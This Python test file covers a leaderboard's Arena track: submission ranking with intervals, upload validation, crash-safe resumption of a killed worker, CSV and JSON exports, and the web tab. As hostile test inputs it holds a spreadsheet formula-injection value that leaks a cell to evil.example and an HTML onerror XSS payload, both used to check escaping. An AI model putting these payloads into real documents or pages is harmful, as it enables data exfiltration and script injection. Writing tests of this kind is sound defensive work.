"""The board's Arena track: a submission judged head to head against the benchmark's anchor systems goes
PENDING → DONE and is ranked by strength with its interval; a worker SIGKILLed mid-job loses nothing and the
next one judges only the missing battles; the table's CSV is spreadsheet-safe; the page has the Arena tab.

The judge is scripted ("the longer text is better": known preferences, so the figures are exact) or the
hash-based ``dummy`` (plumbing, never quality)."""

import csv
import gc
import json
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from mmjudge import HarmonicEval
from mmjudge.leaderboard import views
from mmjudge.leaderboard.benchmarks import DEMO_ANCHORS, demo_outputs
from mmjudge.leaderboard.client import describe
from mmjudge.leaderboard.hub_sync import HubSync
from mmjudge.leaderboard.intake import submit
from mmjudge.leaderboard.job_folder import JOBS
from mmjudge.leaderboard.records import Status
from mmjudge.leaderboard.settings import DEFAULTS
from mmjudge.leaderboard.store import Store
from mmjudge.leaderboard.tracks.models import HARMONIC_EVAL
from mmjudge.leaderboard.worker import Worker
from mmjudge.testing import ScriptedJudge
from repo_paths import HELPERS, ROOT

CRITERIA = ["correctness", "fluency"]
SETTINGS = {**DEFAULTS, "judge": "dummy", "bootstrap": 100, "arena_items_per_pair": 4, "batch_size": 2}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
SLOTS = re.compile(r"(?:Text|Caption|Answer|Expression) A: (.*)\n(?:Text|Caption|Answer|Expression) B: (.*)\n")


def jsonl(rows) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def longer_is_better(request) -> list[float]:
    """P(first, second, tie): the longer text wins with 0.8; equal lengths are a tie."""
    first, second = SLOTS.search(request.turns[0].text).groups()
    if len(first) == len(second):
        return [0.45, 0.45, 0.1]
    return [0.8, 0.2, 0.0] if len(first) > len(second) else [0.2, 0.8, 0.0]


def scripted_worker(store: Store, **kwargs) -> Worker:
    worker = Worker(store, SETTINGS, progress=False, **kwargs)
    judge = ScriptedJudge(longer_is_better)
    worker.resources[HARMONIC_EVAL] = HarmonicEval(judge=judge, criteria=CRITERIA, cache=False)
    return worker


class FakeHub:
    def __init__(self):
        self.files = {}

    def upload_file(self, *, path_or_fileobj, path_in_repo, repo_id, repo_type, commit_message):
        self.files[(repo_id, path_in_repo)] = json.loads(path_or_fileobj)  # strict JSON, or this raises

    def list_repo_files(self, repo_id, repo_type):
        return [p for (r, p) in self.files if r == repo_id]


def test_an_arena_submission_goes_pending_to_done_and_is_ranked_by_strength_with_its_interval(tmp_path):
    store = Store(tmp_path)
    entries = {"wordy": 3, "like-anchor-clear": 1, "<img src=x onerror=alert(1)>": 0}
    ids = {}
    for name, quality in entries.items():
        receipt = submit(
            store, track="arena", benchmark="demo-arena", name=name, submitter="ana", data=jsonl(demo_outputs(quality))
        )
        assert receipt.accepted, receipt.message
        ids[name] = receipt.id
        assert store.get(receipt.id).status is Status.PENDING
    hub = FakeHub()
    worker = scripted_worker(store, hub=HubSync(hub, "org/requests", "org/results"))
    assert worker.run(once=True) == 3
    assert all(store.get(sid).status is Status.DONE for sid in ids.values())
    assert list((tmp_path / JOBS).iterdir()) == []  # every job's folder went once its result was committed

    view = views.track_view(store, "arena", "demo-arena", settings=SETTINGS)
    table = view.table
    # The wordiest texts are the longest (each battle won 0.8 : 0.2); texts equal to an anchor's tie with it.
    assert table["name"].tolist() == ["wordy", "like-anchor-clear", "<img src=x onerror=alert(1)>"]
    assert table["rank"].tolist() == [1, 2, 3]
    rows = {r["name"]: r for r in views.results_records(store, "arena", "demo-arena", settings=SETTINGS)}
    for r in rows.values():
        assert r["ci_low"] < r["strength"] < r["ci_high"] and r["no_preference"] == 0 and r["battles"] >= 3 * 4
    wordy = rows["wordy"]
    assert wordy["win_rate"] == pytest.approx(0.8) and wordy["win_rate:fluency"] == pytest.approx(0.8)
    # Texts equal to anchor-clear's: longer than anchor-plain's, the same, shorter than anchor-background's.
    battles = store.result(ids["like-anchor-clear"]).rows
    mine = {(r["system_b"] if r["system_a"] == "submission" else r["system_a"]) for r in battles}
    assert mine == set(DEMO_ANCHORS) and len(battles) == rows["like-anchor-clear"]["battles"]
    expected = {"anchor-plain": 0.8, "anchor-clear": 0.5, "anchor-background": 0.2}
    won = [r["overall"] if r["system_a"] == "submission" else 1 - r["overall"] for r in battles]
    for r, p in zip(battles, won):
        assert p == pytest.approx(expected[r["system_b"] if r["system_a"] == "submission" else r["system_a"]])
    assert rows["like-anchor-clear"]["win_rate"] == pytest.approx(sum(won) / len(won))
    assert wordy["ci_low"] > rows["like-anchor-clear"]["ci_high"]
    assert table["interval"].tolist()[0] == f"[{wordy['ci_low']:.3f}, {wordy['ci_high']:.3f}]"
    assert "anchors=anchor-plain,anchor-clear,anchor-background" in wordy["signature"]
    assert "config=pairwise" in wordy["signature"] and "items_per_pair=4" in wordy["signature"]
    assert ", ".join(DEMO_ANCHORS) in view.caption and "<img" not in view.caption

    standing = views.standing(store, ids["wordy"], SETTINGS)
    assert describe(standing) == (
        f"DONE: rank 1 of 3 by strength = {wordy['strength']:.3f} [{wordy['ci_low']:.3f}, {wordy['ci_high']:.3f}]"
    )
    page, breakdown = views.submission_view(store, ids["<img src=x onerror=alert(1)>"], SETTINGS)
    assert "<img" not in page and "&lt;img" in page and "**battles** " in page
    assert "win rate: fluency" in breakdown["figure"].tolist()
    # Hub sync as for the other tracks: the request (FINISHED) and the result, as strict JSON.
    doc = hub.files[("org/results", f"results/demo-arena/{ids['wordy']}.json")]
    assert doc["track"] == "arena" and doc["summary"]["strength"] == pytest.approx(wordy["strength"], abs=1e-6)
    assert hub.files[("org/requests", f"requests/demo-arena/{ids['wordy']}.json")]["status"] == "FINISHED"


def test_an_arena_upload_is_checked_like_a_models_upload(tmp_path):
    store = Store(tmp_path)
    short = submit(
        store, track="arena", benchmark="demo-arena", name="m", submitter="s", data=jsonl(demo_outputs(3)[:7])
    )
    assert not short.accepted and short.message == "invalid file: missing 1 id(s) of the benchmark: 'demo-reg-2'."
    scores = submit(
        store, track="arena", benchmark="demo-arena", name="m", submitter="s", data=jsonl([{"id": "x", "score": 1}])
    )
    assert "the Arena track wants one line per item" in scores.message
    wrong = submit(store, track="arena", benchmark="demo-inputs", name="m", submitter="s", data=jsonl(demo_outputs(3)))
    assert wrong.message == "benchmark 'demo-inputs' belongs to the models track, not arena."


def test_the_arena_tables_csv_is_spreadsheet_safe_and_reads_back_with_csv(tmp_path):
    from mmjudge.leaderboard.handlers import Board

    store = Store(tmp_path)
    for k, (name, who) in enumerate([(FORMULA, "@cmd"), ("-2+3", "+ana"), ("plain", "bo")]):
        texts = [{**r, "text": f"{r['text']} Take {k}."} for r in demo_outputs(k)]
        assert submit(
            store, track="arena", benchmark="demo-arena", name=name, submitter=who, data=jsonl(texts)
        ).accepted
    scripted_worker(store).run(once=True)
    board = Board(str(tmp_path), SETTINGS)
    _, caption, csv_button, json_button = board.table("arena", "demo-arena", 0)  # what the tab's buttons offer
    with open(csv_button.value["path"], encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["name"]: r["submitter"] for r in rows} == {"'" + FORMULA: "'@cmd", "'-2+3": "'+ana", "plain": "bo"}
    with open(json_button.value["path"], encoding="utf-8") as f:
        records = json.load(f)
    assert sorted(r["name"] for r in records) == sorted([FORMULA, "-2+3", "plain"])  # the JSON keeps the text
    for record in records:  # numbers stay numbers
        row = next(r for r in rows if r["id"] == record["id"])
        for key in ("strength", "ci_low", "ci_high", "win_rate", "win_rate:correctness"):
            assert float(row[key]) == record[key]
        assert int(row["battles"]) == record["battles"] and int(row["rank"]) == record["rank"]
    assert FORMULA not in caption  # names never reach the caption
    folder = board.results_dir
    del board, csv_button, json_button
    gc.collect()
    assert not os.path.exists(folder)  # the download folder goes with its board: restarts and tests leave no litter


def test_the_page_has_the_arena_tab_and_its_table_endpoint(tmp_path):
    pytest.importorskip("gradio")
    gradio_client = pytest.importorskip("gradio_client")
    import httpx

    from mmjudge.leaderboard.app import build_app, launch

    settings = {**SETTINGS, "demo": True, "rate_limit": 50}
    demo = build_app(str(tmp_path), settings)
    _, url, _ = launch(demo, host="127.0.0.1", prevent_thread_lock=True, quiet=True)
    try:
        config = httpx.get(f"{url.rstrip('/')}/config", timeout=30).json()
        tabs = [c["props"].get("label") for c in config["components"] if c.get("type") == "tabitem"]
        assert tabs[:3] == ["Models", "Metrics", "Arena"], tabs
        assert any(c["props"].get("elem_id") == "arena-table" for c in config["components"])
        client = gradio_client.Client(url, verbose=False)
        upload = tmp_path / "wordy.jsonl"
        upload.write_bytes(jsonl(demo_outputs(3)))
        reply = client.predict(
            "arena", "demo-arena", "wordy", "ana", "", "", gradio_client.handle_file(str(upload)), api_name="/submit"
        )
        sid = re.search(r"submission ([0-9a-f]{32}) is PENDING", reply).group(1)
        assert client.predict(sid, api_name="/status")["status"] == "PENDING"
        scripted_worker(Store(tmp_path)).run(once=True)
        status = client.predict(sid, api_name="/status")
        assert status["status"] == "DONE" and status["rank"] == 1 and status["by"] == "strength"
        assert status["ci_low"] < status["value"] < status["ci_high"]
        [row] = client.predict("demo-arena", api_name="/arena_table")
        assert row["name"] == "wordy" and row["win_rate"] == pytest.approx(0.8, abs=1e-3)
        formats = {b["name"]: b for b in client.predict(api_name="/benchmarks")}
        assert formats["demo-arena"]["track"] == "arena" and sorted(formats["demo-arena"]["fields"]) == ["id", "text"]
    finally:
        demo.close()


# ------------------------------------------------------------------------------ a killed worker
WORKER = textwrap.dedent(
    """
    import json, sys, time
    from mmjudge import HarmonicEval
    from mmjudge.leaderboard.records import Status
    from mmjudge.leaderboard.store import Store
    from mmjudge.leaderboard.tracks.models import HARMONIC_EVAL
    from mmjudge.leaderboard.worker import Worker
    from mmjudge.testing import ScriptedJudge
    sys.path[:0] = sys.argv[4:]  # this test's folder and tests/helpers/ (repo_paths, imported by it)
    from test_leaderboard_arena import CRITERIA, SETTINGS, longer_is_better

    data_dir, sid, log = sys.argv[1], sys.argv[2], open(sys.argv[3], "a", encoding="utf-8")

    class LoggedJudge(ScriptedJudge):
        def _rate_batch(self, requests):  # slow enough to be killed mid-job; every request it gets is logged
            time.sleep(0.05 * len(requests))
            log.write("request\\n" * len(requests))
            log.flush()
            return super()._rate_batch(requests)

    store = Store(data_dir)
    worker = Worker(store, SETTINGS, lease_s=1.0, progress=False, worker_id=sys.argv[3].rsplit("/", 1)[-1])
    judge = LoggedJudge(longer_is_better)
    worker.resources[HARMONIC_EVAL] = HarmonicEval(judge=judge, criteria=CRITERIA, cache=False)
    deadline = time.monotonic() + 120
    while store.get(sid).status is not Status.DONE and time.monotonic() < deadline:
        if worker.run_once() is None:
            time.sleep(0.2)
    """
)


def written_battles(folder: Path) -> int:
    """Whole rows in the job's round files (a row cut off by the kill has no newline yet)."""
    return sum(  # rows only: a part file opens with its header line ({"_run": …}: what its rows were made from)
        1
        for p in folder.glob("arena/rounds/round-*.jsonl*")
        for line in p.read_text(encoding="utf-8").splitlines()
        if not line.startswith('{"_run"')
    )


@pytest.mark.slow
def test_a_worker_killed_mid_job_loses_nothing_and_the_next_judges_only_missing_battles(tmp_path):
    board = tmp_path / "board"
    store = Store(board)
    sid = submit(store, track="arena", benchmark="demo-arena", name="m", submitter="s", data=jsonl(demo_outputs(3))).id
    script = tmp_path / "worker.py"
    script.write_text(WORKER, encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    folder = board / JOBS / sid

    def start(log: Path) -> subprocess.Popen:
        args = [sys.executable, str(script), str(board), sid, str(log), str(Path(__file__).parent), str(HELPERS)]
        return subprocess.Popen(args, env=env, cwd=str(tmp_path))

    first = start(tmp_path / "first.log")
    try:
        deadline = time.monotonic() + 120
        while written_battles(folder) < 6 and first.poll() is None and time.monotonic() < deadline:
            time.sleep(0.02)
        os.kill(first.pid, signal.SIGKILL)
    finally:
        first.wait(timeout=30)
    assert first.returncode == -signal.SIGKILL and store.get(sid).status is Status.RUNNING
    written = written_battles(folder)
    assert written >= 6 and folder.is_dir()

    second = start(tmp_path / "second.log")
    assert second.wait(timeout=180) == 0
    assert store.get(sid).status is Status.DONE and store.get(sid).attempts == 2
    assert not folder.exists()  # removed once the result was committed
    result = store.result(sid)
    asked = (tmp_path / "second.log").read_text().count("\n")
    # Both orders of both criteria for every battle that was not yet written, and nothing else.
    assert asked == 2 * len(CRITERIA) * (result.summary["judged"] - written) > 0

    # Nothing lost: the same figures and battles as one uninterrupted run.
    whole = Store(tmp_path / "whole")
    other = submit(whole, track="arena", benchmark="demo-arena", name="m", submitter="s", data=jsonl(demo_outputs(3)))
    scripted_worker(whole).run(once=True)
    reference = whole.result(other.id)
    assert result.summary == reference.summary and result.rows == reference.rows
    assert result.signature == reference.signature


def test_a_job_folder_has_one_writer_and_a_waiting_worker_still_checks_its_lease(tmp_path):
    """flock is per open file: a second ``locked`` on a held folder waits, calling its lease check, and gives
    up when the check raises (this worker lost the job meanwhile)."""
    from mmjudge.leaderboard.job_folder import job_dir, locked, sweep
    from mmjudge.leaderboard.worker import LeaseLost

    folder = job_dir(tmp_path, "a" * 32)
    checks = []

    def check():
        checks.append(1)
        if len(checks) == 3:
            raise LeaseLost("a" * 32)

    with locked(folder, check=lambda: None):
        with pytest.raises(LeaseLost), locked(folder, check=check, wait_s=0.01):
            pytest.fail("two writers in one job folder")
        assert sweep(tmp_path, live=lambda sid: False) == 0 and folder.is_dir()  # held: left alone
    assert len(checks) == 3
    with locked(folder, check=lambda: None):  # free again
        pass
    assert sweep(tmp_path, live=lambda sid: True) == 0 and sweep(tmp_path, live=lambda sid: False) == 1
    assert not folder.exists()
